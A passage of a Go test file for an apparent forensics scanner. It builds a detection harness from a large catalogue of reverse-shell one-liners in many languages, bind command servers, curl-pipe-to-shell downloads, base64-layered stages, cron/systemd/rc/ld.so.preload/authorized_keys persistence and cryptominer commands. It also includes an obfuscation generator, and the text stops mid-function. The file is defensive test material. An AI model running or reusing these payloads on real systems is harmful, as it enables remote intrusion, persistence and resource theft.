package standard_test

import (
	"context"
	"encoding/base64"
	"fmt"
	"math/rand/v2"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"sort"
	"strings"
	"testing"

	"github.com/strata-forensics/strata/audit"
	"github.com/strata-forensics/strata/audit/standard"
	"github.com/strata-forensics/strata/forensics"
	"github.com/strata-forensics/strata/forensics/imagebuild"
	"github.com/strata-forensics/strata/signatures"
)

// The metamorphic harness: seed samples we wrote for each technique, transformed into
// variants (renamed variables, split lines, comments, quoting, host and port in variables,
// functions, loops, case where the language allows it, one to three base64 layers through
// decode-and-run, other places to run from), put into an image and scanned by the standard
// analyzers. Every variant must be found with its category, at the layer that holds it.
//
// go test ./audit/standard -run Harness -v prints one line per technique:
//
//	harness: <technique> <found>/<total> recall=<0.000>

// variant is one file of the harness image.
type variant struct {
	tech  string
	path  string
	text  string
	mode  int64
	cats  []audit.Category // each must be the finding's category or a label
	layer int              // filled in when placed
	image int
	desc  string
}

// Shell seeds: each line is a command; {H} and {P} are the peer, {SH} a shell, {F} a named
// pipe path. Variables the seed sets are written {v:name} so that renaming can change them.
type shellSeed struct {
	tech  string
	lines []string
	cat   audit.Category
}

var shellSeeds = []shellSeed{
	{"bash-dev-tcp", []string{"{SH} -i >& /dev/tcp/{H}/{P} 0>&1"}, audit.CategoryReverseShell},
	{"bash-dev-tcp", []string{"exec 5<>/dev/tcp/{H}/{P}", "{SH} <&5 >&5 2>&5"}, audit.CategoryReverseShell},
	{"bash-dev-tcp", []string{"{SH} -l > /dev/udp/{H}/{P} 0<&1 2>&1"}, audit.CategoryReverseShell},
	{"bash-dev-tcp", []string{"exec 3<>/dev/tcp/{H}/{P}", "while read -r {v:cmd} <&3; do eval \"${v:cmd}\" >&3 2>&3; done"}, audit.CategoryReverseShell},
	{"nc-e", []string{"nc -e {SH} {H} {P}"}, audit.CategoryReverseShell},
	{"nc-e", []string{"ncat {H} {P} --ssl -e {SH}"}, audit.CategoryReverseShell},
	{"nc-e", []string{"nc.traditional -nv {H} {P} -c {SH}"}, audit.CategoryReverseShell},
	{"nc-e", []string{"busybox nc {H} {P} -e {SH}"}, audit.CategoryReverseShell},
	{"mkfifo", []string{"rm -f {F}", "mkfifo {F}", "cat {F} | {SH} -i 2>&1 | nc {H} {P} > {F}"}, audit.CategoryReverseShell},
	{"mkfifo", []string{"mknod {F} p", "nc {H} {P} 0<{F} | {SH} 1>{F}"}, audit.CategoryReverseShell},
	{"mkfifo", []string{"mkfifo {F}", "{SH} -i < {F} 2>&1 | openssl s_client -quiet -connect {H}:{P} > {F}"}, audit.CategoryReverseShell},
	{"bash-dev-tcp", []string{"zsh -c 'zmodload zsh/net/tcp && ztcp {H} {P} && zsh >&$REPLY 2>&$REPLY 0>&$REPLY'"}, audit.CategoryReverseShell},
	{"nc-e", []string{"sqlite3 /dev/null '.shell rm -f /tmp/.q; mkfifo /tmp/.q; cat /tmp/.q | /bin/sh -i 2>&1 | nc {H} {P} > /tmp/.q'"}, audit.CategoryReverseShell},
	{"telnet", []string{"{v:u}='curl -Ns telnet://{H}:{P}'", "${v:u} </dev/null 2>&1 | {SH} 2>&1 | ${v:u} >/dev/null"}, audit.CategoryReverseShell},
	{"go-run", []string{"echo 'package main;import\"os/exec\";import\"net\";func main(){c,_:=net.Dial(\"tcp\",\"{H}:{P}\");cmd:=exec.Command(\"/bin/sh\");cmd.Stdin=c;cmd.Stdout=c;cmd.Stderr=c;cmd.Run()}' > /tmp/t.go && go run /tmp/t.go && rm /tmp/t.go"}, audit.CategoryReverseShell},
	{"socat", []string{"socat tcp-connect:{H}:{P} exec:'{SH} -li',pty,stderr,setsid,sigint,sane"}, audit.CategoryReverseShell},
	{"socat", []string{"socat TCP4:{H}:{P} EXEC:{SH}"}, audit.CategoryReverseShell},
	{"socat", []string{"socat OPENSSL:{H}:{P},verify=0 SYSTEM:{SH}"}, audit.CategoryReverseShell},
	{"telnet", []string{"telnet {H} {P} | {SH} | telnet {H} 4445"}, audit.CategoryReverseShell},
	{"telnet", []string{"mknod {F} p && telnet {H} {P} 0<{F} | {SH} 1>{F}"}, audit.CategoryReverseShell},
	{"openssl", []string{"mkfifo {F}; {SH} -i < {F} 2>&1 | openssl s_client -quiet -connect {H}:{P} > {F}; rm {F}"}, audit.CategoryReverseShell},
	{"openssl", []string{"openssl s_client -quiet -connect {H}:{P} | {SH} 2>&1 | openssl s_client -quiet -connect {H}:4445"}, audit.CategoryReverseShell},
	{"curl-sh", []string{"curl -fsSL http://{H}:{P}/a.sh | {SH}"}, audit.CategoryMalware},
	{"curl-sh", []string{"wget -qO- http://{H}:{P}/b | {SH} -s"}, audit.CategoryMalware},
	{"curl-sh", []string{"{v:u}=http://{H}:{P}/k", "curl -s ${v:u} -o /dev/shm/.k", "chmod +x /dev/shm/.k", "/dev/shm/.k"}, audit.CategoryMalware},
	{"curl-sh", []string{"{SH} -c \"$(curl -fsSL http://{H}:{P}/i)\""}, audit.CategoryMalware},
	{"base64-sh", []string{"echo {B64} | base64 -d | {SH}"}, audit.CategoryMalware},
	{"base64-sh", []string{"{v:s}={B64}", "eval \"$(echo ${v:s} | base64 --decode)\""}, audit.CategoryMalware},
	{"base64-sh", []string{"base64 -d <<< {B64} > /tmp/.s", "{SH} /tmp/.s"}, audit.CategoryMalware},
	// A named pipe whose name or loop program is computed at run time, TLS telnet, and the
	// command carried by sh -c's positional parameters.
	{"mkfifo", []string{"mkfifo {F} && telnet -z verify=0 {H} {P} 0<{F} | $(command -v sh) 1>{F}"}, audit.CategoryReverseShell},
	{"openssl", []string{"{v:p}=\"/tmp/.$(openssl rand -hex 4)\"", "mkfifo ${v:p}", "{SH} -i < ${v:p} 2>&1 | openssl s_client -quiet -connect {H}:{P} > ${v:p}"}, audit.CategoryReverseShell},
	{"bash-dev-tcp", []string{"{SH} -c '$@|sh' x echo sh -i '>&' /dev/tcp/{H}/{P} '0>&1'"}, audit.CategoryReverseShell},
	// Miners started with a pool and an account, without a stratum URL.
	{"miner-command", []string{"./kworkerds -o {H}:{P} -u " + harnessWallet + ".w1 -p x --donate-level 1 -B"}, audit.CategoryMiner},
	{"miner-command", []string{"{v:u}=" + harnessWallet, "/usr/bin/.sysd --url={H}:{P} --user=${v:u} -a rx/0 -k --cpu-max-threads-hint 75"}, audit.CategoryMiner},
}

// Interpreter seeds, in their own language; {s}, {c}, {p} name variables; {H}, {P}, {SH} as
// above. Each language says how code of it is run inline, how it decodes a base64 stage,
// and its file extension.
type langSeed struct {
	tech, lang string
	code       string
	cat        audit.Category
}

var langSeeds = []langSeed{
	{"python", "python", "import socket,os,pty\n{s}=socket.socket(socket.AF_INET,socket.SOCK_STREAM)\n{s}.connect(({HQ},{P}))\nos.dup2({s}.fileno(),0)\nos.dup2({s}.fileno(),1)\nos.dup2({s}.fileno(),2)\npty.spawn({SHQ})", audit.CategoryReverseShell},
	{"python", "python", "import socket,subprocess\n{s}=socket.socket()\n{s}.connect(({HQ},{P}))\nsubprocess.call([{SHQ},\"-i\"],stdin={s}.fileno(),stdout={s}.fileno(),stderr={s}.fileno())", audit.CategoryReverseShell},
	{"python", "python", "import socket,subprocess\n{s}=socket.create_connection(({HQ},{P}))\nwhile True:\n    {c}={s}.recv(1024).decode()\n    {p}=subprocess.run({c},shell=True,capture_output=True)\n    {s}.sendall({p}.stdout+{p}.stderr)", audit.CategoryReverseShell},
	{"perl", "perl", "use Socket;\n$i={HQ};$p={P};\nsocket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));\nif(connect(S,sockaddr_in($p,inet_aton($i)))){\nopen(STDIN,\">&S\");open(STDOUT,\">&S\");open(STDERR,\">&S\");\nexec({SHQ} . \" -i\");}", audit.CategoryReverseShell},
	{"perl", "perl", "use IO::Socket;\n${c}=new IO::Socket::INET(PeerAddr,{HQ}.\":\".{P});\nSTDIN->fdopen(${c},r);$~->fdopen(${c},w);\nsystem $_ while<>;", audit.CategoryReverseShell},
	{"ruby", "ruby", "require 'socket'\n{s}=TCPSocket.open({HQ},{P}).to_i\nexec sprintf(\"{SH} -i <&%d >&%d 2>&%d\",{s},{s},{s})", audit.CategoryReverseShell},
	{"ruby", "ruby", "require 'socket'\n{c}=TCPSocket.new({HQ},{P})\nwhile({p}={c}.gets)\n  IO.popen({p},\"r\"){|io|{c}.print io.read}\nend", audit.CategoryReverseShell},
	{"ruby", "ruby", "exit if fork\n{c}=TCPSocket.new({HQ},{P})\nloop{{c}.gets.chomp!;(exit! if $_==\"exit\");(IO.popen($_,?r){|io|{c}.print io.read}) rescue {c}.puts \"failed\"}", audit.CategoryReverseShell},
	{"php", "php", "${s}=fsockopen({HQ},{P});\nexec(\"{SH} -i <&3 >&3 2>&3\");", audit.CategoryReverseShell},
	{"php", "php", "${s}=fsockopen({HQ},{P});\n`{SH} <&3 >&3 2>&3`;", audit.CategoryReverseShell},
	{"php", "php", "${s}=fsockopen({HQ},{P});\n${p}=proc_open({SHQ},array(0=>${s},1=>${s},2=>${s}),$pipes);", audit.CategoryReverseShell},
	{"node", "node", "var net=require(\"net\"),cp=require(\"child_process\"),{p}=cp.spawn({SHQ},[]);\nvar {c}=new net.Socket();\n{c}.connect({P},{HQ},function(){{c}.pipe({p}.stdin);{p}.stdout.pipe({c});{p}.stderr.pipe({c});});", audit.CategoryReverseShell},
	{"node", "node", "const net=require('net');const {exec}=require('child_process');\nconst {c}=net.connect({P},{HQ});\n{c}.on('data',({p})=>{exec({p}.toString(),(e,o,r)=>{{c}.write(o+r);});});", audit.CategoryReverseShell},
	{"lua", "lua", "local {s}=require(\"socket\")\nlocal {c}=assert({s}.tcp())\n{c}:connect({HQ},{P})\nwhile true do\n  local {p},x={c}:receive()\n  local f=assert(io.popen({p},\"r\"))\n  local b=assert(f:read(\"*a\"))\n  {c}:send(b)\nend", audit.CategoryReverseShell},
	{"lua", "lua", "local {s}=require(\"socket\");local {c}={s}.tcp();{c}:connect({HQ},{P});os.execute(\"{SH} -i <&3 >&3 2>&3\")", audit.CategoryReverseShell},
	{"awk", "awk", "BEGIN {{s} = \"/inet/tcp/0/{H}/{P}\"; while(42) { do{ printf \"> \" |& {s}; {s} |& getline {c}; if({c}){ while (({c} |& getline) > 0) print $0 |& {s}; close({c}); } } while({c} != \"exit\") close({s}); }}", audit.CategoryReverseShell},
	// Names bound at run time, reads into buffers, sockets made in place, callbacks.
	{"python", "python", "i=__import__\n{c}=i(\"socket\").socket\n{s}={c}()\n{s}.connect(({HQ},{P}))\nd=i(\"os\").dup2\nfor n in (0,1,2): d({s}.fileno(),n)\ni(\"pty\").spawn({SHQ})", audit.CategoryReverseShell},
	{"perl", "perl", "use IO::Socket::INET;\n${c}=IO::Socket::INET->new(PeerAddr=>{HQ}.\":\".{P});\nwhile(sysread(${c},${p},4096)){syswrite(${c},`${p}`);}", audit.CategoryReverseShell},
	{"ruby", "ruby", "require 'socket'\nspawn({SHQ},[:in,:out,:err]=>TCPSocket.new({HQ},{P}))", audit.CategoryReverseShell},
	{"node", "node", "{p}=require(\"child_process\").spawn({SHQ});\nrequire(\"net\").connect({P},{HQ},function(){this.pipe({p}.stdin);{p}.stdout.pipe(this);{p}.stderr.pipe(this);});", audit.CategoryReverseShell},
	// Command servers: each line a connection sends is run and the output sent back, with no
	// join of the socket to a shell's streams (bind and connect-back, a thread per client, a
	// socketserver handler, Python 2's popen2).
	{"command-server", "python", "import socket,popen2\n{s}=socket.socket(socket.AF_INET,socket.SOCK_STREAM)\n{s}.bind(('',{P}))\n{s}.listen(1)\n{c},a={s}.accept()\nwhile 1:\n    {p}={c}.recv(1024)\n    o,i,e=popen2.popen3({p})\n    {c}.send(o.read()+e.read())", audit.CategoryReverseShell},
	{"command-server", "python", "import socket,subprocess,threading\ndef serve(k):\n    while True:\n        {p}=k.recv(2048)\n        r=subprocess.Popen({p},shell=True,stdout=subprocess.PIPE,stderr=subprocess.STDOUT)\n        k.send(r.communicate()[0])\n{s}=socket.socket()\n{s}.bind(('0.0.0.0',{P}))\n{s}.listen(3)\nwhile True:\n    {c},a={s}.accept()\n    threading.Thread(target=serve,args=({c},)).start()", audit.CategoryReverseShell},
	{"command-server", "python", "import socketserver,subprocess\nclass H(socketserver.StreamRequestHandler):\n    def handle(self):\n        while True:\n            {p}=self.rfile.readline().strip()\n            self.wfile.write(subprocess.check_output({p},shell=True))\nsocketserver.TCPServer(('',{P}),H).serve_forever()", audit.CategoryReverseShell},
	{"command-server", "python", "import socket,commands\n{s}=socket.socket()\n{s}.connect(({HQ},{P}))\nfor {p} in {s}.makefile():\n    {s}.send(commands.getoutput({p}))", audit.CategoryReverseShell},
	{"command-server", "perl", "use IO::Socket::INET;\n${s}=IO::Socket::INET->new(LocalPort=>{P},Listen=>5,Reuse=>1);\nwhile(${c}=${s}->accept){while(${p}=<${c}>){print ${c} qx(${p});}}", audit.CategoryReverseShell},
	{"command-server", "perl", "use Socket;\nsocket(S,PF_INET,SOCK_STREAM,getprotobyname('tcp'));\nbind(S,sockaddr_in({P},INADDR_ANY));\nlisten(S,3);\nwhile(accept(C,S)){while(<C>){print C `$_`;}}", audit.CategoryReverseShell},
	{"command-server", "ruby", "require 'socket'\n{s}=TCPServer.new({P})\nloop do\n  {c}={s}.accept\n  while({p}={c}.gets)\n    {c}.puts `#{{p}}`\n  end\nend", audit.CategoryReverseShell},
	{"command-server", "node", "const net=require('net');const cp=require('child_process');\nnet.createServer(({c})=>{{c}.on('data',({p})=>{cp.exec({p}.toString(),(e,o,r)=>{c}.write(o+r));});}).listen({P});", audit.CategoryReverseShell},
	// A shell's pipes or streams copied to and from the socket.
	{"php-relay", "php", "${s}=fsockopen({HQ},{P});\n${p}=proc_open({SHQ},array(0=>array(\"pipe\",\"r\"),1=>array(\"pipe\",\"w\"),2=>array(\"pipe\",\"w\")),${c});\nwhile(!feof(${s})){fwrite(${c}[0],fread(${s},1400));fwrite(${s},fread(${c}[1],1400));}", audit.CategoryReverseShell},
	{"jvm-relay", "java", "var {p}=new java.lang.ProcessBuilder({SHQ}).redirectErrorStream(true).start();\nvar {s}=new java.net.Socket({HQ},{P});\nvar {c}={p}.getInputStream(),x={s}.getInputStream(),y={p}.getOutputStream(),z={s}.getOutputStream();\nwhile(!{s}.isClosed()){while({c}.available()>0)z.write({c}.read());while(x.available()>0)y.write(x.read());z.flush();y.flush();java.lang.Thread.sleep(50);}", audit.CategoryReverseShell},
	// Other languages: Tcl, R, C, Rust and Go source.
	{"tcl", "tcl", "set {s} [socket {HQ} {P}]\nwhile 1 {\n gets ${s} {c}\n set {p} [eval \"exec ${c}\"]\n puts ${s} ${p}\n flush ${s}\n}", audit.CategoryReverseShell},
	{"r", "r", "{s}<-socketConnection(host={HQ},port={P},open='r+')\nrepeat{writeLines(readLines(pipe(readLines({s},1))),{s})}", audit.CategoryReverseShell},
	{"c-source", "c", "#include <unistd.h>\n#include <arpa/inet.h>\nint main(void){\n struct sockaddr_in a = {0}; a.sin_family = AF_INET; a.sin_port = htons({P}); inet_pton(AF_INET, {HQ}, &a.sin_addr);\n int {s} = socket(AF_INET, SOCK_STREAM, 0);\n if (connect({s}, (struct sockaddr *)&a, sizeof a)) return 1;\n for (int {c} = 0; {c} < 3; {c}++) dup2({s}, {c});\n execl({SHQ}, \"sh\", (char *)0);\n}", audit.CategoryReverseShell},
	{"rust-source", "rust", "use std::net::TcpStream;\nuse std::os::unix::io::{AsRawFd, FromRawFd};\nuse std::process::{Command, Stdio};\nfn main() {\n let {s} = TcpStream::connect(format!(\"{}:{}\", {HQ}, {P})).unwrap();\n let {c} = {s}.as_raw_fd();\n Command::new({SHQ}).stdin(unsafe { Stdio::from_raw_fd({c}) }).stdout(unsafe { Stdio::from_raw_fd({c}) }).spawn().unwrap().wait().unwrap();\n}", audit.CategoryReverseShell},
	{"go-source", "go", "package main\n\nimport (\n \"fmt\"\n \"net\"\n \"os/exec\"\n)\n\nfunc main() {\n {s}, _ := net.Dial(\"tcp\", fmt.Sprintf(\"%s:%d\", {HQ}, {P}))\n {p} := exec.Command({SHQ})\n {p}.Stdin, {p}.Stdout = {s}, {s}\n {p}.Run()\n}", audit.CategoryReverseShell},
}

// Persistence and other seeds, whole files.
type fileSeed struct {
	tech, path, text string
	mode             int64
	cats             []audit.Category
}

const harnessWallet = "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A"

func fileSeeds() []fileSeed {
	rs, persist := audit.CategoryReverseShell, audit.CategoryPersistence
	key := "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl backup@ops"
	rsa := "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC7vbqajDhA0iB4zpFJMhx3AyK9n7S1lvkCvrbXpL2z5C9Z attacker"
	return []fileSeed{
		{"cron", "/etc/cron.d/apt-refresh", "*/5 * * * * root nc -e /bin/sh 203.0.113.45 4444\n", 0o644, []audit.Category{rs, persist}},
		{"cron", "/etc/crontab", "SHELL=/bin/sh\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n@reboot root /bin/bash -c 'sh -i >& /dev/tcp/203.0.113.45/53 0>&1'\n", 0o644, []audit.Category{rs, persist}},
		{"cron", "/var/spool/cron/crontabs/root", "# m h dom mon dow command\n0 * * * * curl -fsSL http://198.51.100.7/update.sh | sh\n", 0o600, []audit.Category{persist, audit.CategoryMalware}},
		{"cron", "/var/spool/cron/crontabs/www-data", "@hourly wget -q -O- http://198.51.100.7/x | bash >/dev/null 2>&1\n", 0o600, []audit.Category{persist}},
		{"cron", "/usr/local/bin/install-job", "#!/bin/sh\n(crontab -l 2>/dev/null; echo \"*/10 * * * * /bin/bash -c 'bash -i >& /dev/tcp/203.0.113.45/4444 0>&1'\") | crontab -\n", 0o755, []audit.Category{rs, persist}},
		{"cron", "/opt/setup.sh", "#!/bin/bash\nL='* * * * * root echo c2ggLWkgPiYgL2Rldi90Y3AvMjAzLjAuMTEzLjQ1LzQ0NDQgMD4mMQ== | base64 -d | sh'\necho \"$L\" >> /etc/crontab\n", 0o755, []audit.Category{persist}},
		{"systemd", "/etc/systemd/system/update-helper.service", "[Unit]\nDescription=Update helper\n[Service]\nExecStart=/bin/bash -c 'while true; do curl -s http://198.51.100.7/t | bash; sleep 300; done'\nRestart=always\n[Install]\nWantedBy=multi-user.target\n", 0o644, []audit.Category{persist, audit.CategoryMalware}},
		{"systemd", "/lib/systemd/system/netcheck.service", "[Service]\nType=simple\nExecStartPre=-/usr/bin/nc -e /bin/sh 203.0.113.45 4444\nExecStart=/usr/bin/true\n", 0o644, []audit.Category{rs, persist}},
		{"systemd", "/etc/systemd/system/sshd.service.d/override.conf", "[Service]\nExecStartPost=/bin/sh -c \"echo YmFzaCAtaSA+JiAvZGV2L3RjcC8yMDMuMC4xMTMuNDUvNDQzIDA+JjE= | base64 -d | bash\"\n", 0o644, []audit.Category{persist}},
		{"systemd", "/root/.config/systemd/user/agent.service", "[Service]\nEnvironment=H=203.0.113.45 P=8443\nExecStart=/usr/bin/socat tcp:${H}:${P} exec:/bin/bash\n", 0o644, []audit.Category{rs, persist}},
		{"systemd", "/usr/local/bin/install-unit", "#!/bin/sh\ncat > /etc/systemd/system/kworker.service <<EOF\n[Service]\nExecStart=/bin/bash -c 'exec 5<>/dev/tcp/203.0.113.45/4444; sh <&5 >&5 2>&5'\nEOF\nsystemctl enable kworker\n", 0o755, []audit.Category{rs, persist}},
		{"shell-rc", "/etc/profile.d/locale-fix.sh", "export LC_ALL=C.UTF-8\n(nohup bash -c 'bash -i >& /dev/tcp/203.0.113.45/4444 0>&1' &) >/dev/null 2>&1\n", 0o644, []audit.Category{rs, persist}},
		{"shell-rc", "/root/.bashrc", "alias ll='ls -l'\ncurl -s http://198.51.100.7/r | sh &\n", 0o644, []audit.Category{persist}},
		{"shell-rc", "/etc/rc.local", "#!/bin/sh -e\nmkfifo /tmp/.p\ncat /tmp/.p | /bin/sh -i 2>&1 | nc 203.0.113.45 4444 > /tmp/.p &\nexit 0\n", 0o755, []audit.Category{rs, persist}},
		{"shell-rc", "/etc/update-motd.d/99-stats", "#!/bin/sh\necho \"load: $(cat /proc/loadavg)\"\npython3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.45\",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")' &\n", 0o755, []audit.Category{rs, persist}},
		{"ld.so.preload", "/etc/ld.so.preload", "/usr/local/lib/.cache/libsystem.so\n", 0o644, []audit.Category{audit.CategoryLDPreload, persist}},
		{"ld.so.preload", "/etc/ld.so.preload", "# performance\n/tmp/libperf.so\n", 0o644, []audit.Category{audit.CategoryLDPreload}},
		{"ld.so.preload", "/etc/ld.so.preload", "/usr/lib/x86_64-linux-gnu/libsnoopy.so /usr/lib/libm2.so\n", 0o644, []audit.Category{audit.CategoryLDPreload}},
		{"ld.so.preload", "/usr/local/bin/enable-hook", "#!/bin/sh\necho /usr/lib/libpam_cache.so > /etc/ld.so.preload\n", 0o755, []audit.Category{audit.CategoryLDPreload}},
		{"ld.so.preload", "/usr/local/bin/enable-hook2", "#!/bin/bash\nL=/var/tmp/.l/libx.so\nprintf '%s\\n' \"$L\" | tee -a /etc/ld.so.preload >/dev/null\n", 0o755, []audit.Category{audit.CategoryLDPreload}},
		{"authorized_keys", "/root/.ssh/authorized_keys", key + "\n", 0o600, []audit.Category{audit.CategorySSHKey, persist}},
		{"authorized_keys", "/home/deploy/.ssh/authorized_keys", "from=\"203.0.113.0/24\" " + rsa + "\n", 0o600, []audit.Category{audit.CategorySSHKey}},
		{"authorized_keys", "/root/.ssh/authorized_keys2", "command=\"/bin/bash -c 'bash -i >& /dev/tcp/203.0.113.45/4444 0>&1'\",no-pty " + key + "\n", 0o600, []audit.Category{audit.CategorySSHKey}},
		{"authorized_keys", "/docker-entrypoint.sh", "#!/bin/sh\nmkdir -p /root/.ssh\necho '" + key + "' >> /root/.ssh/authorized_keys\nexec \"$@\"\n", 0o755, []audit.Category{audit.CategorySSHKey}},
		{"authorized_keys", "/opt/init.sh", "#!/bin/bash\nK=\"" + rsa + "\"\ncat >> /home/ubuntu/.ssh/authorized_keys <<EOF\n$K\nEOF\n", 0o755, []audit.Category{audit.CategorySSHKey}},
		{"miner", "/opt/.x/config.json", `{"autosave": true, "cpu": true, "pools": [{"algo": "rx/0", "url": "pool.supportxmr.com:443", "user": "` + harnessWallet + `", "pass": "x", "tls": true}]}` + "\n", 0o644, []audit.Category{audit.CategoryMiner}},
		{"miner", "/etc/kw/conf.json", "{\n  \"pools\" : [\n    {\n      \"user\" : \"" + harnessWallet + "\",\n      \"url\" : \"stratum+tcp://198.51.100.9:3333\"\n    }\n  ]\n}\n", 0o644, []audit.Category{audit.CategoryMiner}},
		{"miner", "/usr/local/bin/start", "#!/bin/sh\n/usr/local/bin/kworkerd -o stratum+ssl://gulf.moneroocean.stream:20128 -u " + harnessWallet + " -p w1 --donate-level 1 -B\n", 0o755, []audit.Category{audit.CategoryMiner}},
		{"miner", "/etc/cron.d/kw", "@reboot root /opt/kw -o stratum+tcp://pool.hashvault.pro:3333 -u " + harnessWallet + " -k\n", 0o644, []audit.Category{audit.CategoryMiner, persist}},
		{"miner", "/opt/run.sh", "#!/bin/bash\nW=" + harnessWallet + "\nP=stratum2+tcp://xmr.2miners.com:2222\n./xmrig --url $P --user $W --rig-id r1 --cpu-max-threads-hint 75 --randomx-mode fast\n", 0o755, []audit.Category{audit.CategoryMiner}},
	}
}

// harnessRand is the harness's deterministic randomness.
func harnessRand(seed uint64) *rand.Rand { return rand.New(rand.NewPCG(seed, 0x5eed)) }

var (
	hosts   = []string{"203.0.113.45", "198.51.100.7", "c2.attacker.example", "10.13.37.5"}
	ports   = []string{"4444", "443", "8080", "53", "1337"}
	varSets = [][3]string{{"H", "P", "X"}, {"RHOST", "RPORT", "Y"}, {"a", "b", "c"}, {"_h", "_p", "_z"}, {"target", "port", "buf"}}
)

// shellVariant renders a shell seed with the transforms o chooses.
type shellOpts struct {
	hostVars  bool   // host and port in variables
	names     int    // which variable names
	shell     string // the shell path as written
	quote     int    // 0 none, 1 double quotes around arguments with paths, 2 concatenated pieces
	join      string // "" lines, "; " one line, " && " one line
	comments  bool
	wrap      string // "", "function", "loop", "background", "subshell"
	layers    int    // base64 decode-and-run layers
	layerForm int
	cont      bool // backslash line continuations inside commands
	oneLine   bool // the variant goes on one line (a crontab or Exec= line)
}

func renderShell(s shellSeed, o shellOpts, host, port, fifo string) string {
	names := varSets[o.names%len(varSets)]
	var pre []string
	h, p := host, port
	if o.hostVars {
		pre = append(pre, names[0]+"="+host, names[1]+"="+port)
		h, p = "$"+names[0], "${"+names[1]+"}"
	}
	sh := o.shell
	switch o.quote {
	case 1:
		sh = `"` + sh + `"`
	case 2:
		i := len(sh) / 2
		sh = `"` + sh[:i] + `"'` + sh[i:] + `'`
	}
	stage := base64.StdEncoding.EncodeToString([]byte(o.shell + " -i >& /dev/tcp/" + host + "/" + port + " 0>&1"))
	var lines []string
	for _, l := range s.lines {
		lsh := sh
		if strings.Contains(l, "'{SH}") {
			lsh = o.shell // already inside the seed's own quotes
		}
		l = strings.NewReplacer("{H}", h, "{P}", p, "{SH}", lsh, "{F}", fifo, "{B64}", stage).Replace(l)
		for i, v := range []string{"cmd", "u", "s", "p"} {
			_ = i
			l = strings.ReplaceAll(l, "{v:"+v+"}", names[2]+v)
		}
		if o.cont {
			l = strings.Replace(l, " ", " \\\n  ", 1)
		}
		lines = append(lines, l)
	}
	body := lines
	if o.join != "" && !o.cont {
		body = []string{strings.Join(lines, o.join)}
	}
	if o.comments {
		var c []string
		for i, l := range body {
			c = append(c, "# step "+fmt.Sprint(i+1)+": keep the service alive (nc, /dev/tcp and sh are mentioned here on purpose)")
			c = append(c, l+"  # ok")
		}
		body = c
	}
	switch o.wrap {
	case "function":
		fn := names[2] + "_run"
		args := ""
		if o.hostVars {
			// The peer comes in as the function's arguments.
			for i := range body {
				body[i] = strings.NewReplacer("$"+names[0], "$1", "${"+names[1]+"}", "${2}").Replace(body[i])
			}
			args = " " + host + " " + port
			pre = nil
		}
		body = append(append([]string{fn + "() {"}, indent(body)...), "}", fn+args)
	case "loop":
		body = append(append([]string{"while true; do"}, indent(body)...), "  sleep 60", "done")
	case "background":
		body = append(append([]string{"("}, indent(body)...), ") &")
	case "subshell":
		inner := strings.Join(body, "\n")
		if o.oneLine {
			inner = joinLines(inner)
		}
		body = []string{"nohup " + o.shell + " -c " + shellQuote(inner) + " >/dev/null 2>&1 &"}
	}
	text := strings.Join(append(pre, body...), "\n") + "\n"
	for i := 0; i < o.layers; i++ {
		b := base64.StdEncoding.EncodeToString([]byte(text))
		switch (o.layerForm + i) % 4 {
		case 0:
			text = "echo " + b + " | base64 -d | " + o.shell + "\n"
		case 1:
			text = o.shell + " -c \"$(echo " + b + " | base64 --decode)\"\n"
		case 2:
			text = "eval \"$(base64 -d <<< " + b + ")\"\n"
		case 3:
			text = "printf '%s' " + b + " | base64 -d > /tmp/.st && " + o.shell + " /tmp/.st\n"
		}
	}
	return text
}

// joinLines makes a script one line, as a crontab or an Exec= line must hold it: comments
// dropped, continuations joined, and lines separated by "; " except after a word or operator
// that needs what follows (do, then, {, (, |, &&, ||, &).
func joinLines(script string) string {
	script = strings.ReplaceAll(script, "\\\n", " ")
	var parts []string
	for _, l := range strings.Split(script, "\n") {
		if i := strings.Index(l, "  # "); i >= 0 {
			l = l[:i]
		}
		l = strings.TrimSpace(l)
		if l == "" || strings.HasPrefix(l, "#") {
			continue
		}
		parts = append(parts, l)
	}
	var b strings.Builder
	for i, p := range parts {
		b.WriteString(p)
		if i == len(parts)-1 {
			break
		}
		sep := "; "
		for _, end := range []string{" do", " then", "{", "(", "|", "&&", "||", "&", "else"} {
			if strings.HasSuffix(p, end) || p == strings.TrimSpace(end) {
				sep = " "
				break
			}
		}
		b.WriteString(sep)
	}
	return b.String()
}

func indent(ls []string) []string {
	out := make([]string, len(ls))
	for i, l := range ls {
		out[i] = "  " + l
	}
	return out
}

func shellQuote(s string) string { return "'" + strings.ReplaceAll(s, "'", `'\''`) + "'" }

// placements say where a shell variant runs from, and what that adds to what it is.
type placement struct {
	name    string
	path    func(i int) string
	render  func(script string) string
	mode    int64
	persist bool
}

func placements() []placement {
	oneLine := func(script string) string {
		return "/bin/bash -c " + shellQuote(joinLines(script))
	}
	return []placement{
		{"script", func(i int) string { return fmt.Sprintf("/usr/local/bin/svc-%03d", i) }, func(s string) string { return "#!/bin/bash\n" + s }, 0o755, false},
		{"sh-file", func(i int) string { return fmt.Sprintf("/opt/app/tools/t%03d.sh", i) }, func(s string) string { return s }, 0o644, false},
		{"no-shebang", func(i int) string { return fmt.Sprintf("/usr/bin/kupd%03d", i) }, func(s string) string { return s }, 0o755, false},
		{"hidden-tmp", func(i int) string { return fmt.Sprintf("/tmp/.ICE-unix/.%03d", i) }, func(s string) string { return "#!/bin/sh\n" + s }, 0o755, false},
		// cron takes % as a line end: a crontab writes \% for the command's own.
		{"cron", func(i int) string { return fmt.Sprintf("/etc/cron.d/job%03d", i) },
			func(s string) string { return "*/7 * * * * root " + strings.ReplaceAll(oneLine(s), "%", `\%`) + "\n" }, 0o644, true},
		{"user-crontab", func(i int) string { return fmt.Sprintf("/var/spool/cron/crontabs/u%03d", i) },
			func(s string) string { return "@reboot " + strings.ReplaceAll(oneLine(s), "%", `\%`) + "\n" }, 0o600, true},
		{"systemd", func(i int) string { return fmt.Sprintf("/etc/systemd/system/svc%03d.service", i) },
			func(s string) string {
